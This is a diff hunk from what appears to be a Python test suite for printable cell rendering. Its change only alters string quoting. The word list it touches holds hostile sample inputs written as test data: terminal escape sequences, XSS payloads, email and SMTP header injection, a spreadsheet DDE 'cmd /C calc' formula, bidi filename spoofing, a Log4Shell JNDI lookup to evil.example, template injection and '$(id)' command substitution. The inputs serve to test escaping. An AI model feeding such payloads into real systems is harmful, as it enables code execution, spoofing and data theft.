@@ -33,11 +33,11 @@ from tocsin.printable import cell
 
 WORDS = [
     "\x1b[31mred\x1b]0;title\x07\x1b[2J", "\x9b2J\x90q\x9c\x7f\x08\x08\x08", "back\rover\nnew line\x0b\x0c\x85",
-    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'-->]]></title><b>", "&lt;b&gt;&#60;",
+    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'-->]]></title><b>", "&lt;b&gt;&#60;",
     "<!channel> <!here> <@U123> <https://evil.example|click>", "*bold* _it_ ~no~ `code` @everyone #general",
     "[click](https://evil.example) ![x](https://evil.example/x.png)", "||spoiler|| \\*",
     "x\r\nBcc: a@b.example\r\n\r\n<b>body", "=?utf-8?q?x?=", "\r\n.\r\nMAIL FROM:<a@b.example>",
-    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =cmd|' /C calc'!A0", "\uff1d1+1", "a,b;\"c\"",
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =cmd|' /C calc'!A0", "\uff1d1+1", 'a,b;"c"',
     "\u202egpj.exe\u202c", "\u2066\u2069\u200f\u061c", "zero\u200bwidth\u200d\u2060\ufeff", "\u2028\u2029", "\U000e0041",
     "${jndi:ldap://evil.example/a}", "{{ 7*7 }}", "%s%n$(id)`id`", "\ud7ff\ue000\ufffe",
 ]  # fmt: skip
